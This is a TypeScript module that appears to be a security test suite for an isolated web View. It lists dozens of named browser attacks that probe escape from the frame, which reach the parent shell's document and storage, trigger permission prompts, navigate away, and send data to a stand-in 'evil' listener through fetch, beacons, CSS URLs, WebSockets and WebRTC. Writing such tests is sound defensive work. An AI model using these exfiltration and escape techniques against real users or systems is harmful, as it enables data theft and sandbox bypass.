/** The targets of an attack. */
export interface Targets {
  /** A listener that no template has declared. */
  readonly evil: string;
  readonly udp: number;
  /** The shell and the host's own endpoints. */
  readonly host: string;
}

/**
 * An attack runs inside a View, as any script of it could, and with the browser's blessing of a user who has just
 * clicked. It returns what it got hold of, and throws where it was kept from it. `undefined` says that only the listener
 * can tell.
 */
export type Attack = (targets: Targets) => unknown;

/** Ways to somebody else's document, memory or store. */
export const reaching: Readonly<Record<string, Attack>> = {
  'document of the shell': () => top?.document.title,
  'document of the shell by its parent': () => parent.parent.document.title,
  'functions of the shell': () => (top as unknown as { fetch: unknown }).fetch,
  'storage of the shell': () => top?.localStorage.length,
  'session storage of the shell': () => top?.sessionStorage.length,
  'address of the shell': () => top?.location.href,
  'history of the shell': () => top?.history.length,
  'name of the shell': () => top?.name,
  'code in the shell': () => (top as unknown as { eval(code: string): unknown }).eval('1'),
  'property of the shell': () => {
    (top as unknown as { hacked: boolean }).hacked = true;
    return 'set';
  },
  'document of a sibling': () => {
    for (let at = 0; at < top!.length; at += 1) {
      const proxy = top![at]!;
      if (proxy !== parent) return proxy[0]!.document.title;
    }
    throw new Error('There is no sibling.');
  },
  'document of the proxy of a sibling': () => {
    for (let at = 0; at < top!.length; at += 1) {
      if (top![at] !== parent) return top![at]!.document.title;
    }
    throw new Error('There is no sibling.');
  },
  'element that frames it': () => {
    if (parent.frameElement === null) throw new Error('None.');
    return 'an element';
  },
  opener: () => {
    if (!window.opener) throw new Error('None.');
    return 'an opener';
  },
  'name of the window': () => {
    if (!window.name) throw new Error('None.');
    return window.name;
  },
  referrer: () => {
    if (!document.referrer) throw new Error('None.');
    return document.referrer;
  },
  ancestors: () => {
    const known = [...(location.ancestorOrigins ?? [])].filter((origin) => /token|session|ahp/.test(origin));
    if (known.length === 0) throw new Error('None.');
    return known;
  },
  'domain of the document': () => {
    document.domain = 'localhost';
    return top?.document.title;
  },
  'named window of the shell': () => {
    const found = window.open('', '_top');
    return found?.document.title;
  },
  'service worker': ({ evil }) => navigator.serviceWorker.register(`${evil}/worker.js`),
  'own service worker': () => navigator.serviceWorker.register('/worker.js'),
  'worker from a blob': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.addEventListener('message', () => resolve('a worker'));
      worker.addEventListener('error', () => reject(new Error('None.')));
    }),
  'worker from data': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker('data:text/javascript,postMessage(1)');
      worker.addEventListener('message', () => resolve('a worker'));
      worker.addEventListener('error', () => reject(new Error('None.')));
    }),
  'shared worker': () =>
    new Promise((resolve, reject) => {
      const worker = new SharedWorker('data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)');
      worker.port.addEventListener('message', () => resolve('a worker'));
      worker.port.start();
      worker.addEventListener('error', () => reject(new Error('None.')));
    }),
  'web assembly': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  evaluation: async () => {
    // Later, so that nobody's leave to evaluate this very attack is taken for the View's.
    await new Promise((resolve) => setTimeout(resolve, 50));
    const script = document.createElement('script');
    script.textContent =
      'setTimeout(() => { try { globalThis.evaluated = (0, eval)("1") } catch { globalThis.evaluated = 0 } })';
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 50));
    if ((globalThis as unknown as { evaluated: number }).evaluated !== 1) throw new Error('Blocked.');
    return 'evaluated';
  },
};

/** Stores that only a document with an origin has, and that are its own. */
export const ownStores: Readonly<Record<string, Attack>> = {
  'own storage': () => localStorage.length,
  'own database': () =>
    new Promise((resolve, reject) => {
      const opening = indexedDB.open('x');
      opening.addEventListener('success', () => resolve('open'));
      opening.addEventListener('error', () => reject(new Error('None.')));
    }),
  'own caches': () => caches.keys().then((keys) => keys.length),
  'own cookie': () => {
    document.cookie = 'a=b';
    if (!document.cookie) throw new Error('None.');
    return document.cookie;
  },
  'document of its proxy': () => parent.document.title,
};

/** Ways to be a nuisance to the user, or to seem to be somebody else. */
export const imposing: Readonly<Record<string, Attack>> = {
  popup: ({ evil }) => {
    if (!window.open(`${evil}/popup`)) throw new Error('Blocked.');
    return 'a window';
  },
  'popup without an address': () => {
    if (!window.open('about:blank')) throw new Error('Blocked.');
    return 'a window';
  },
  alert: () => {
    alert('alert');
    throw new Error('The listener for dialogs knows.');
  },
  confirm: () => {
    if (!confirm('confirm')) throw new Error('Blocked.');
    return 'confirmed';
  },
  prompt: () => {
    if (prompt('prompt') === null) throw new Error('Blocked.');
    return 'answered';
  },
  print: () => {
    print();
    throw new Error('Nobody can tell.');
  },
  fullscreen: () => document.documentElement.requestFullscreen().then(() => 'full screen'),
  'pointer lock': () => {
    return new Promise((resolve, reject) => {
      document.addEventListener('pointerlockchange', () => resolve('locked'));
      document.addEventListener('pointerlockerror', () => reject(new Error('Blocked.')));
      void Promise.resolve(document.body.requestPointerLock()).catch(reject);
    });
  },
  'orientation lock': () =>
    (screen.orientation as unknown as { lock(to: string): Promise<void> })
      .lock('portrait')
      .then(() => 'locked'),
  'wake lock': () => navigator.wakeLock.request('screen').then(() => 'awake'),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'a picture'),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'a sound'),
  screen: () => navigator.mediaDevices.getDisplayMedia().then(() => 'the screen'),
  position: () =>
    new Promise((resolve, reject) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('a place'),
        () => reject(new Error('Blocked.')),
      );
    }),
  notification: () =>
    Notification.requestPermission().then((state) => {
      if (state !== 'granted') throw new Error('Blocked.');
      return state;
    }),
  'clipboard to read': () => navigator.clipboard.readText().then(() => 'the clipboard'),
  'clipboard to write': () => navigator.clipboard.writeText('hacked').then(() => 'written'),
  'storage access': () => document.requestStorageAccess().then(() => localStorage.length),
  usb: () =>
    (navigator as unknown as { usb: { requestDevice(o: object): Promise<unknown> } }).usb.requestDevice({
      filters: [],
    }),
  serial: () =>
    (navigator as unknown as { serial: { requestPort(): Promise<unknown> } }).serial.requestPort(),
  bluetooth: () =>
    (
      navigator as unknown as { bluetooth: { requestDevice(o: object): Promise<unknown> } }
    ).bluetooth.requestDevice({
      acceptAllDevices: true,
    }),
  midi: () => navigator.requestMIDIAccess().then(() => 'midi'),
  payment: () =>
    new PaymentRequest([{ supportedMethods: 'https://pay.example' }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    })
      .show()
      .then(() => 'paid'),
  credentials: () =>
    navigator.credentials.get({ password: true } as CredentialRequestOptions).then((found) => found!.id),
  'files of the user': () =>
    (window as unknown as { showOpenFilePicker(): Promise<unknown> })
      .showOpenFilePicker()
      .then(() => 'a file'),
  fonts: () => (window as unknown as { queryLocalFonts(): Promise<unknown> }).queryLocalFonts(),
  'idle detection': () =>
    (
      window as unknown as { IdleDetector: { requestPermission(): Promise<string> } }
    ).IdleDetector.requestPermission().then((state) => {
      if (state !== 'granted') throw new Error('Blocked.');
      return state;
    }),
  'document picture in picture': () =>
    (
      window as unknown as { documentPictureInPicture: { requestWindow(): Promise<unknown> } }
    ).documentPictureInPicture
      .requestWindow()
      .then(() => 'a window'),
  download: () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['x']));
    link.download = 'hacked.exe';
    document.body.append(link);
    link.click();
  },
  'protocol handler': ({ evil }) => {
    navigator.registerProtocolHandler('web+hacked', `${evil}/%s`);
  },
};

/** Ways to tell somebody outside. The listener knows whether one worked. */
export const telling: Readonly<Record<string, Attack>> = {
  fetch: ({ evil }) => fetch(`${evil}/fetch`, { mode: 'no-cors' }).then(() => 'sent'),
  'fetch that outlives the page': ({ evil }) =>
    fetch(`${evil}/keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).then(
      () => 'sent',
    ),
  'fetch from a frame without an address': ({ evil }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow!.fetch(`${evil}/inner-fetch`, { mode: 'no-cors' }).then(() => 'sent');
  },
  'fetch from a nested document': ({ evil }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>fetch('${evil}/nested-fetch',{mode:'no-cors'});new Image().src='${evil}/nested-image'</script>`;
    document.body.append(frame);
  },
  'nested document that leaves': ({ evil }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>location='${evil}/nested-leave'</script>`;
    document.body.append(frame);
  },
  'nested document with a policy of its own': ({ evil }) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('csp', 'default-src *');
    frame.srcdoc = `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${evil}/own-policy">`;
    document.body.append(frame);
  },
  'request of old': ({ evil }) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${evil}/xhr`);
      request.addEventListener('load', () => resolve('sent'));
      request.addEventListener('error', () => reject(new Error('Blocked.')));
      request.send('x');
    }),
  socket: ({ evil }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${evil.replace('http', 'ws')}/socket`);
      socket.addEventListener('open', () => resolve('open'));
      socket.addEventListener('error', () => reject(new Error('Blocked.')));
    }),
  'socket of streams': ({ evil }) => {
    const { WebSocketStream: Stream } = window as unknown as {
      WebSocketStream: new (url: string) => { opened: Promise<unknown> };
    };
    return new Stream(`${evil.replace('http', 'ws')}/stream`).opened.then(() => 'open');
  },
  events: ({ evil }) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`${evil}/events`);
      source.addEventListener('open', () => resolve('open'));
      source.addEventListener('error', () => reject(new Error('Blocked.')));
    }),
  'web transport': ({ evil }) => new WebTransport(evil.replace('http:', 'https:')).ready.then(() => 'open'),
  beacon: ({ evil }) => {
    navigator.sendBeacon(`${evil}/beacon`, 'x');
  },
  image: ({ evil }) => {
    new Image().src = `${evil}/image`;
  },
  'image of a set': ({ evil }) => {
    const image = new Image();
    image.srcset = `${evil}/set 1x`;
    document.body.append(image);
  },
  'image in a drawing': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg><image href="${evil}/drawing"/><use href="${evil}/use#x"/><feImage href="${evil}/filter"/></svg>`,
    );
  },
  script: ({ evil }) => {
    const script = document.createElement('script');
    script.src = `${evil}/script`;
    document.body.append(script);
  },
  module: ({ evil }) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.textContent = `import '${evil}/module'; import('${evil}/dynamic')`;
    document.body.append(script);
  },
  'styles of many kinds': ({ evil }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${evil}/import);
      @font-face { font-family: leak; src: url(${evil}/face) }
      body { font-family: leak; background: url(${evil}/background); cursor: url(${evil}/cursor), auto }
      li::marker { content: url(${evil}/marker) } body::after { content: url(${evil}/after) }
      input[aria-label^='I'] { background: image-set(url(${evil}/attribute) 1x) }`;
    document.head.append(style);
  },
  'sheet of styles': ({ evil }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${evil}/sheet`;
    document.head.append(link);
  },
  font: ({ evil }) => new FontFace('x', `url(${evil}/font)`).load().then(() => 'loaded'),
  'sound and film': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<video src="${evil}/video" poster="${evil}/poster" autoplay><track src="${evil}/track" default></video>
       <audio src="${evil}/audio" autoplay></audio>`,
    );
  },
  'frames of many kinds': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
       <fencedframe src="${evil}/fenced"></fencedframe><portal src="${evil}/portal"></portal>`,
    );
  },
  'hints of many kinds': ({ evil }) => {
    for (const rel of [
      'prefetch',
      'preload',
      'modulepreload',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'manifest',
      'icon',
      'search',
      'alternate',
      'pingback',
      'compression-dictionary',
    ]) {
      const link = document.createElement('link');
      Object.assign(link, { rel, as: 'script', href: `${evil}/${rel}` });
      document.head.append(link);
    }
  },
  speculation: ({ evil }) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    const list = { source: 'list', urls: [`${evil}/speculated`], eagerness: 'immediate' };
    rules.textContent = JSON.stringify({ prefetch: [list], prerender: [list] });
    document.head.append(rules);
  },
  base: ({ evil }) => {
    const base = document.createElement('base');
    base.href = `${evil}/`;
    document.head.append(base);
    const image = new Image();
    image.src = 'based';
    document.body.append(image);
    base.remove();
  },
  'form to the top': ({ evil }) => {
    document.body.insertAdjacentHTML('beforeend', `<form target="_top" action="${evil}/form-top"></form>`);
    (document.querySelector('form:last-of-type') as HTMLFormElement).submit();
  },
  'form to a window': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<form target="_blank" action="${evil}/form-window"></form>`,
    );
    (document.querySelector('form:last-of-type') as HTMLFormElement).submit();
  },
  'link to the top': ({ evil }) => {
    const link = Object.assign(document.createElement('a'), { href: `${evil}/link-top`, target: '_top' });
    document.body.append(link);
    link.click();
  },
  'link to a window': ({ evil }) => {
    const link = Object.assign(document.createElement('a'), {
      href: `${evil}/link-window`,
      target: '_blank',
    });
    document.body.append(link);
    link.click();
  },
  'link with a ping': ({ evil }) => {
    const link = Object.assign(document.createElement('a'), { href: '#x', ping: `${evil}/ping` });
    document.body.append(link);
    link.click();
  },
  'top away': ({ evil }) => {
    top!.location = `${evil}/top`;
  },
  'top away by script': () => {
    top!.location = 'javascript:void(document.title = "hacked")';
  },
  'top replaced': ({ evil }) => {
    top!.location.replace(`${evil}/replaced`);
  },
  'sibling away': ({ evil }) => {
    for (let at = 0; at < top!.length; at += 1)
      if (top![at] !== parent) top![at]!.location = `${evil}/sibling`;
  },
  'report of a violation': ({ evil }) => {
    document.head.insertAdjacentHTML(
      'beforeend',
      `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${evil}/report">`,
    );
    new Image().src = 'data:image/gif;base64,AAAA';
  },
  'policy that is looser': ({ evil }) => {
    document.head.insertAdjacentHTML(
      'beforeend',
      `<meta http-equiv="Content-Security-Policy" content="default-src *; connect-src *">`,
    );
    return fetch(`${evil}/looser`, { mode: 'no-cors' }).then(() => 'sent');
  },
  'attribution and the like': ({ evil }) => {
    const image = new Image();
    image.setAttribute('attributionsrc', `${evil}/attribution`);
    document.body.append(image);
    const { sharedStorage } = window as unknown as {
      sharedStorage?: { createWorklet(url: string): unknown };
    };
    return sharedStorage?.createWorklet(`${evil}/worklet`);
  },
  worklet: ({ evil }) =>
    (CSS as unknown as { paintWorklet: { addModule(url: string): Promise<void> } }).paintWorklet
      .addModule(`${evil}/paint`)
      .then(() => 'loaded'),
  'health of the host': ({ host }) => fetch(`${host}/healthz`, { mode: 'no-cors' }).then(() => 'sent'),
  'commands of the host': ({ host }) =>
    fetch(`${host}/api/listWorkspaces`, { method: 'POST', mode: 'no-cors', body: '{}' }).then(() => 'sent'),
  'socket of the host': ({ host }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${host.replace('http', 'ws')}/ahp`);
      socket.addEventListener('open', () => resolve('open'));
      socket.addEventListener('error', () => reject(new Error('Blocked.')));
    }),
  'socket of its own origin': () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket('/ahp');
      socket.addEventListener('open', () => resolve('open'));
      socket.addEventListener('error', () => reject(new Error('Blocked.')));
    }),
  'another port of this machine': () => fetch('http://127.0.0.1:1/', { mode: 'no-cors' }).then(() => 'sent'),
};

/** Ways to leave, which end the View's own script: each takes a View. */
export const leaving: Readonly<Record<string, Attack>> = {
  'to another address': ({ evil }) => {
    location.href = `${evil}/self`;
  },
  'by a refresh': ({ evil }) => {
    document.head.insertAdjacentHTML(
      'beforeend',
      `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    );
  },
  'by a link': ({ evil }) => {
    const link = Object.assign(document.createElement('a'), { href: `${evil}/self-link` });
    document.body.append(link);
    link.click();
  },
  'by a form': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<form method="post" action="${evil}/form"><input name="a" value="b"></form>`,
    );
    (document.querySelector('form:last-of-type') as HTMLFormElement).submit();
  },
  'by a button of a form': ({ evil }) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<form><button formaction="${evil}/form-button">x</button></form>`,
    );
    (document.querySelector('form:last-of-type button') as HTMLButtonElement).click();
  },
  'to data': ({ evil }) => {
    location.href = `data:text/html,<img src="${evil}/data">`;
  },
  'to a blob': ({ evil }) => {
    const html = new Blob([`<img src="${evil}/blob">`], { type: 'text/html' });
    location.href = URL.createObjectURL(html);
  },
  'to the shell': ({ host }) => {
    location.href = `${host}/`;
  },
  'by writing itself anew': ({ evil }) => {
    document.open();
    document.write(`<img src="${evil}/written"><script src="${evil}/written-script"></script>`);
    document.close();
  },
  'with its proxy': ({ evil }) => {
    parent.location = `${evil}/parent`;
  },
  'with its proxy by script': ({ evil }) => {
    parent.location = `javascript:void(location='${evil}/parent-script')`;
  },
  'with its proxy from within': ({ evil }) => {
    (parent as unknown as { eval(code: string): unknown }).eval(
      `location = ${JSON.stringify(`${evil}/parent-code`)}`,
    );
  },
  'with a frame that its proxy makes': ({ evil }) => {
    const frame = parent.document.createElement('iframe');
    frame.src = `${evil}/parent-frame`;
    parent.document.body.append(frame);
    (parent as unknown as { fetch: typeof fetch })
      .fetch(`${evil}/parent-fetch`, { mode: 'no-cors' })
      .catch(() => undefined);
  },
  'with a frame of its proxy that is bound by nothing': ({ evil }) => {
    const frame = parent.document.createElement('iframe');
    frame.srcdoc = `<script>location='${evil}/unbound';top.location='${evil}/unbound-top'</script><img src="${evil}/unbound-image">`;
    parent.document.body.append(frame);
  },
  'by a link that is saved': ({ evil }) => {
    const link = Object.assign(document.createElement('a'), { href: `${evil}/saved`, download: 'x' });
    document.body.append(link);
    link.click();
  },
  'back in the history': () => {
    history.back();
    history.go(-10);
    top!.history.back();
  },
};

/** Ways to others of its kind. A browser that keeps a page from them may end it for the attempt. */
export const peering: Readonly<Record<string, Attack>> = {
  'a peer connection': async ({ udp }) => {
    const urls = [`stun:127.0.0.1:${udp}`, `turn:127.0.0.1:${udp}`];
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'leak', credential: 'leak' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'a peer connection of a frame': async ({ udp }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis;
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'a peer that is told where to': async ({ udp }) => {
    const peer = new RTCPeerConnection();
    const other = new RTCPeerConnection();
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await other.setRemoteDescription(peer.localDescription!);
    await other.setLocalDescription(await other.createAnswer());
    await peer.setRemoteDescription(other.localDescription!);
    await peer.addIceCandidate({
      candidate: `candidate:1 1 udp 2113937151 127.0.0.1 ${udp} typ host`,
      sdpMid: '0',
      sdpMLineIndex: 0,
    });
  },
};
